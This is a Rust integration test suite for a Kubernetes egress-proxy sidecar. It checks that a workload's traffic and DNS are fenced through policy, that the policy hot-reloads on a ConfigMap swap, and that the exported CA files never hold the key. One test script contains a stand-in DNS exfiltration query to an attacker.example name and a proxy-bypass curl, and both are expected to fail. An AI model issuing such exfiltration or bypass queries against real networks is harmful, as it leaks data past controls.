//! The Kubernetes sidecar shape (`docs/kubernetes.md`), simulated with network
//! namespaces: a "pod" namespace whose only way out is an "outside" namespace
//! (the rest of the cluster, with the upstreams), `sluice sidecar-init` run in
//! the pod as an init container would, `sluice serve` with its sidecar
//! listeners in the pod as root (sluice's user), and the workload as another
//! UID; and the policy hot reload through a ConfigMap-style symlink swap.

use std::process::{Command, Output};

use sluice_test_support::{eventually, recorded, Netns, PodNetns, TempDir};

use crate::harness::Sluice;
use crate::run::timed;

/// The workload's user: no passwd entry needed.
const WORKLOAD_UID: &str = "4242";

const POLICY: &str = r#"version: 1
network_policies:
  web:
    endpoints:
      - { host: allowed.test, port: 8080 }
    binaries:
      - { path: /usr/bin/curl }
  cache:
    endpoints:
      - { host: cache.demo.internal, port: 6379, protocol: tcp }
    binaries:
      - { path: /usr/bin/redis-cli }
"#;

/// [`POLICY`] without the `protocol: tcp` endpoint, for a `serve` without
/// the sidecar listeners (which cannot enforce `protocol: tcp`).
const WEB_POLICY: &str = r#"version: 1
network_policies:
  web:
    endpoints:
      - { host: allowed.test, port: 8080 }
    binaries:
      - { path: /usr/bin/curl }
"#;

/// `key=value` lines of `text`: the value of `key` (empty when missing).
fn value(text: &str, key: &str) -> String {
    text.lines()
        .find_map(|l| l.strip_prefix(&format!("{key}=")))
        .unwrap_or_default()
        .trim()
        .to_owned()
}

/// `program args` inside the pod as root.
fn in_pod(pod: &PodNetns, program: &str, args: &[&str]) -> Output {
    Command::new("ip")
        .args(["netns", "exec", &pod.name, program])
        .args(args)
        .output()
        .unwrap_or_else(|e| panic!("ip netns exec {program}: {e}"))
}

/// `script` inside the pod as the workload's user, without capabilities.
fn as_workload(pod: &PodNetns, script: &str) -> String {
    let out = in_pod(
        pod,
        "setpriv",
        &[
            "--reuid",
            WORKLOAD_UID,
            "--regid",
            WORKLOAD_UID,
            "--clear-groups",
            "sh",
            "-c",
            script,
        ],
    );
    format!(
        "{}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// The fence in the pod: the workload's proxy traffic is decided by policy,
/// a direct connection is refused before it leaves (nothing reaches the
/// upstream), its DNS is answered by sluice whatever resolver it asks, and a
/// proxy-unaware client reaches an eligible name through the transparent
/// listener; loopback is fenced too. Root (sluice's user) is not redirected.
#[test]
fn pod_fence_sends_the_workload_through_sluice_and_leaves_other_uids_alone() {
    let dir = TempDir::new("sidecar");
    let outside = Netns::new();
    outside.start_upstream(8080, &dir.path("upstream.jsonl"));
    outside.start_recorder(9000, &dir.path("raw.bin"));
    outside.start_redis(6379);
    let pod = outside.attach_pod();
    // The workload's resolver is some cluster address (here the outside
    // namespace, where nothing answers DNS): the fence sends it to sluice.
    pod.set_resolver(&outside.ns_ip);
    let nsip = outside.ns_ip.as_str();

    let init = in_pod(
        &pod,
        env!("CARGO_BIN_EXE_sluice"),
        &["sidecar-init", "--workload-uid", WORKLOAD_UID],
    );
    let init_err = String::from_utf8_lossy(&init.stderr);
    assert!(init.status.success(), "sidecar-init: {init_err}");
    assert!(
        init_err.contains("installed table inet sluice_sidecar"),
        "{init_err}"
    );
    // Idempotent: a second run replaces the table.
    let again = in_pod(
        &pod,
        env!("CARGO_BIN_EXE_sluice"),
        &["sidecar-init", "--workload-uid", WORKLOAD_UID],
    );
    assert!(again.status.success(), "{again:?}");
    let tables = String::from_utf8_lossy(&in_pod(&pod, "nft", &["list", "tables"]).stdout)
        .matches("sluice_sidecar")
        .count();
    assert_eq!(tables, 1, "one table after two runs");

    let hosts = [
        format!("allowed.test={nsip}"),
        format!("denied.test={nsip}"),
        format!("cache.demo.internal={nsip}"),
    ];
    let mut extra = vec![
        "--no-system-dns",
        "--dns-listen",
        "127.0.0.1:5353",
        "--transparent-listen",
        "127.0.0.1:15001",
    ];
    for h in &hosts {
        extra.extend(["--add-host", h.as_str()]);
    }
    let sluice = Sluice::launch(
        &dir,
        POLICY,
        &["ip", "netns", "exec", &pod.name],
        "127.0.0.1:3128",
        &extra,
        &[],
    );
    // Printed just after the start line (the sockets were bound before it).
    eventually("the sidecar listeners' lines", || {
        let started = sluice.stderr();
        started.contains("policy DNS on 127.0.0.1:5353 and [::1]:5353")
            && started.contains("transparent capture on 127.0.0.1:15001 and [::1]:15001")
    });
    // The capability contract: the sidecar declares transparent capture
    // (which the `protocol: tcp` endpoint needs) and process identity.
    let loaded = sluice.wait_event("Policy loaded");
    assert_eq!(loaded["unmapped"]["runtime_mode"], "sidecar", "{loaded}");
    let caps = loaded["unmapped"]["capabilities"].to_string();
    assert!(
        caps.contains("process-identity") && caps.contains("transparent-capture"),
        "{caps}"
    );

    let script = format!(
        "P=http://127.0.0.1:3128\n\
         echo allowed=$(curl -s -o /dev/null -w '%{{http_code}}' -x $P http://allowed.test:8080/a)\n\
         echo denied=$(curl -s -o /dev/null -w '%{{http_code}}' -x $P http://denied.test:8080/b)\n\
         {direct}\
         echo udp=$(dig +short +tries=1 +time=2 @{nsip} cache.demo.internal A)\n\
         echo udp_lo=$(dig +short +tries=1 +time=2 @127.0.0.53 cache.demo.internal A)\n\
         echo tcp=$(dig +tcp +short +tries=1 +time=2 @{nsip} cache.demo.internal A)\n\
         echo refused=$(dig +tries=1 +time=2 @{nsip} exfil-label.attacker.example A | grep -o 'status: [A-Z]*')\n\
         echo ping=$(redis-cli -h cache.demo.internal -p 6379 PING)\n\
         echo ping6=$(redis-cli -h $(dig +short +tries=1 +time=2 cache.demo.internal AAAA) -p 6379 PING)\n\
         python3 -c \"import socket,time; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('127.0.0.1', 9099)); s.listen(); time.sleep(6)\" &\n\
         sleep 0.5\n\
         {loopback}\
         kill $! 2>/dev/null\n",
        direct = timed(
            "direct",
            &format!("curl -s --max-time 5 --noproxy '*' http://{nsip}:9000/bypass")
        ),
        loopback = timed(
            "loopback",
            "curl -s --max-time 3 --noproxy '*' http://127.0.0.1:9099/"
        ),
    );
    let out = as_workload(&pod, &script);
    let log = format!("{out}\n--- sluice:\n{}", sluice.stderr());
    assert_eq!(value(&out, "allowed"), "200", "{log}");
    assert_eq!(value(&out, "denied"), "403", "{log}");
    assert_eq!(value(&out, "direct_rc"), "7", "refused at connect: {log}");
    assert!(
        value(&out, "direct_ms").parse::<u64>().unwrap_or(u64::MAX) < 2000,
        "refused at once (a reset, not a timeout): {log}"
    );
    let pool: ipnet::Ipv4Net = "198.18.0.0/15".parse().unwrap();
    let synthetic: std::net::Ipv4Addr = value(&out, "udp")
        .parse()
        .unwrap_or_else(|_| panic!("a synthetic answer: {log}"));
    assert!(pool.contains(&synthetic), "{synthetic} in the pool: {log}");
    assert_eq!(
        value(&out, "udp_lo"),
        synthetic.to_string(),
        "a loopback resolver is redirected too: {log}"
    );
    assert_eq!(
        value(&out, "tcp"),
        synthetic.to_string(),
        "DNS over TCP: {log}"
    );
    assert_eq!(value(&out, "refused"), "status: REFUSED", "{log}");
    assert_eq!(
        value(&out, "ping"),
        "PONG",
        "redis by name, captured: {log}"
    );
    assert_eq!(
        value(&out, "ping6"),
        "PONG",
        "a synthetic IPv6 address, captured too: {log}"
    );
    assert_eq!(
        value(&out, "loopback_rc"),
        "7",
        "another loopback port is fenced: {log}"
    );

    // Nothing reached the upstream directly; the refusals were counted.
    assert!(
        std::fs::read(dir.path("raw.bin"))
            .unwrap_or_default()
            .is_empty(),
        "the direct connection never reached the upstream"
    );
    let paths: Vec<String> = recorded(&dir.path("upstream.jsonl"))
        .iter()
        .filter_map(|r| r["path"].as_str().map(str::to_owned))
        .collect();
    assert_eq!(paths, ["/a"], "only the allowed request: {log}");
    let fence = String::from_utf8_lossy(
        &in_pod(
            &pod,
            "nft",
            &["list", "chain", "inet", "sluice_sidecar", "fence"],
        )
        .stdout,
    )
    .into_owned();
    let rejected: u64 = fence
        .lines()
        .filter(|l| l.contains("reject with tcp reset"))
        .filter_map(|l| {
            l.split_whitespace()
                .skip_while(|w| *w != "packets")
                .nth(1)
                .and_then(|n| n.parse::<u64>().ok())
        })
        .sum();
    assert!(rejected >= 2, "direct and loopback resets counted: {fence}");

    // Root, sluice's user, is not redirected: its direct request arrives, and
    // its DNS query goes to the address it named (where nothing answers).
    let root = in_pod(
        &pod,
        "sh",
        &[
            "-c",
            &format!(
                "echo direct=$(curl -s -o /dev/null -w '%{{http_code}}' --max-time 5 --noproxy '*' http://{nsip}:8080/root)\n\
                 echo dns=$(dig +short +tries=1 +time=1 @{nsip} cache.demo.internal A)\n"
            ),
        ],
    );
    let root_out = String::from_utf8_lossy(&root.stdout);
    assert_eq!(value(&root_out, "direct"), "200", "{root_out}");
    assert!(
        !value(&root_out, "dns").contains("198.18."),
        "root's DNS is not answered by sluice: {root_out}"
    );

    // The audit log: the answer, the captured connection (its client
    // identified through the shared /proc), the refused query and its sender.
    let events = sluice.events();
    assert!(
        events.iter().any(|e| e["class_uid"] == 4003
            && e["unmapped"]["dns.query"] == "cache.demo.internal"
            && e["unmapped"]["transparent.synthetic_ip"] == synthetic.to_string()),
        "DNS answer event: {events:#?}"
    );
    assert!(
        events.iter().any(|e| e["message"]
            .as_str()
            .is_some_and(|m| m.starts_with("TRANSPARENT allowed"))
            && e["actor"]["process"]["file"]["path"] == "/usr/bin/redis-cli"),
        "captured connection, identified: {events:#?}"
    );
    assert!(
        events
            .iter()
            .any(|e| e["unmapped"]["dns_query"] == "exfil-label.attacker.example"),
        "refused query event: {events:#?}"
    );
    drop(sluice);
}

/// A ConfigMap volume updates a file the way the kubelet's atomic writer
/// does: the new content lands in a fresh timestamped directory, a `..data`
/// symlink is renamed over the old one, and the old directory is removed;
/// the file sluice was given (`policy.yaml -> ..data/policy.yaml`) never
/// changes itself. The policy watcher follows the links and reloads.
#[test]
fn configmap_symlink_swap_reloads_the_policy() {
    use std::os::unix::fs::symlink;
    let dir = TempDir::new("configmap");
    std::fs::create_dir(dir.path("..2024_01_01_00_00_00.1")).expect("data dir");
    symlink("..2024_01_01_00_00_00.1", dir.path("..data")).expect("..data");
    symlink("..data/policy.yaml", dir.path("policy.yaml")).expect("policy.yaml");
    // The harness writes policy.yaml through the links, as the kubelet did.
    let sluice = Sluice::start(&dir, WEB_POLICY, &[]);
    sluice.wait_event("Policy loaded: generation 1");
    // The watcher takes its first stamp just after the start line; a change
    // before that would be its baseline.
    std::thread::sleep(std::time::Duration::from_millis(500));

    let next = WEB_POLICY.replace("allowed.test", "allowed2.test");
    let new_dir = dir.path("..2024_01_01_00_01_00.2");
    std::fs::create_dir(&new_dir).expect("new data dir");
    std::fs::write(new_dir.join("policy.yaml"), &next).expect("new policy");
    symlink("..2024_01_01_00_01_00.2", dir.path("..data_tmp")).expect("..data_tmp");
    std::fs::rename(dir.path("..data_tmp"), dir.path("..data")).expect("swap ..data");
    std::fs::remove_dir_all(dir.path("..2024_01_01_00_00_00.1")).expect("old data dir");

    sluice.wait_event("Policy loaded: generation 2");
    // The file sluice reads is the new one (the old directory is gone).
    let policy = std::fs::read_to_string(dir.path("policy.yaml")).expect("read through links");
    assert!(policy.contains("allowed2.test"));
    assert!(!sluice.stderr().contains("rejected"), "{}", sluice.stderr());
}

/// What `--identity required` needs of the sidecar's securityContext, with
/// the workload's processes visible (shareProcessNamespace): naming the
/// client means reading the workload's `/proc/PID/fd`, which takes
/// CAP_SYS_PTRACE and CAP_DAC_READ_SEARCH when sluice is another user.
/// Kubernetes gives a non-root container no effective capability, so the
/// sidecar runs as uid 0 with exactly those two (the manifests' default), or
/// as a non-root user with `--identity endpoint-only`.
#[test]
fn identity_in_a_pod_needs_sys_ptrace_and_dac_read_search() {
    const NON_ROOT: &[&str] = &[
        "setpriv",
        "--reuid",
        "65532",
        "--regid",
        "65532",
        "--clear-groups",
        "--inh-caps=-all",
        "--bounding-set=-all",
    ];
    let record = TempDir::new("sidecar-identity");
    let outside = Netns::new();
    outside.start_upstream(8080, &record.path("upstream.jsonl"));
    let pod = outside.attach_pod();
    let host = format!("allowed.test={}", outside.ns_ip);
    let cases: [(&str, &[&str], &str, &str); 4] = [
        ("non-root, no capability", NON_ROOT, "required", "403"),
        (
            "uid 0, SYS_PTRACE only",
            &[
                "setpriv",
                "--inh-caps=-all,+sys_ptrace",
                "--bounding-set=-all,+sys_ptrace",
            ],
            "required",
            "403",
        ),
        (
            "uid 0, SYS_PTRACE and DAC_READ_SEARCH",
            &[
                "setpriv",
                "--inh-caps=-all,+sys_ptrace,+dac_read_search",
                "--bounding-set=-all,+sys_ptrace,+dac_read_search",
            ],
            "required",
            "200",
        ),
        ("non-root, endpoint-only", NON_ROOT, "endpoint-only", "200"),
    ];
    for (i, (what, context, identity, expect)) in cases.into_iter().enumerate() {
        let dir = TempDir::new("sidecar-identity");
        if context == NON_ROOT {
            // What an emptyDir gives a non-root sidecar: its own files.
            std::fs::create_dir(dir.path("state")).expect("state dir");
            std::fs::write(dir.path("audit.jsonl"), "").expect("audit file");
            for p in ["state", "audit.jsonl"] {
                std::os::unix::fs::chown(dir.path(p), Some(65532), Some(65532)).expect("chown");
            }
        }
        let prefix: Vec<&str> = ["ip", "netns", "exec", pod.name.as_str()]
            .into_iter()
            .chain(context.iter().copied())
            .collect();
        let listen = format!("127.0.0.1:{}", 3128 + i);
        // Endpoint-only identity cannot enforce `binaries`: none then.
        let policy = if identity == "endpoint-only" {
            WEB_POLICY.replace("    binaries:\n      - { path: /usr/bin/curl }\n", "")
        } else {
            WEB_POLICY.to_owned()
        };
        let sluice = Sluice::launch(
            &dir,
            &policy,
            &prefix,
            &listen,
            &[
                "--no-system-dns",
                "--add-host",
                &host,
                "--identity",
                identity,
            ],
            &[],
        );
        let out = as_workload(
            &pod,
            &format!(
                "curl -s -o /dev/null -w '%{{http_code}}' -x http://{listen} http://allowed.test:8080/x"
            ),
        );
        assert_eq!(
            out.trim(),
            expect,
            "{what}: {out}\n{}\n{:#?}",
            sluice.stderr(),
            sluice.events()
        );
    }
}

/// `sluice ca init --export DIR` (the `sluice-ca` init container): the
/// public trust files for the workload's volume, world-readable, and never
/// the key, which stays in the state directory.
#[test]
fn ca_init_exports_the_trust_files_and_never_the_key() {
    use std::os::unix::fs::PermissionsExt as _;
    let dir = TempDir::new("ca-export");
    let (state, trust) = (dir.path("state"), dir.path("trust"));
    let out = crate::harness::sluice_cmd(&[
        "ca",
        "init",
        "--state-dir",
        &state.display().to_string(),
        "--export",
        &trust.display().to_string(),
    ]);
    assert!(out.contains("ca-bundle.pem"), "{out}");
    let ca = std::fs::read_to_string(state.join("ca.pem")).expect("the CA in the state dir");
    assert!(state.join("ca-key.pem").exists());
    assert_eq!(
        std::fs::read_to_string(trust.join("ca.pem")).expect("exported ca.pem"),
        ca
    );
    assert!(std::fs::read_to_string(trust.join("ca-bundle.pem"))
        .expect("bundle")
        .ends_with(&ca));
    assert!(trust.join("java-cacerts.jks").is_file());
    assert!(trust.join("certs").is_dir());
    let mut files = vec![trust.clone()];
    while let Some(p) = files.pop() {
        let meta = std::fs::metadata(&p).expect("stat");
        if meta.is_dir() {
            assert_eq!(meta.permissions().mode() & 0o777, 0o755, "{}", p.display());
            files.extend(std::fs::read_dir(&p).unwrap().map(|e| e.unwrap().path()));
        } else {
            assert_eq!(meta.permissions().mode() & 0o777, 0o644, "{}", p.display());
            let bytes = std::fs::read(&p).unwrap();
            assert!(
                !String::from_utf8_lossy(&bytes).contains("PRIVATE KEY"),
                "{} holds a key",
                p.display()
            );
        }
    }
}
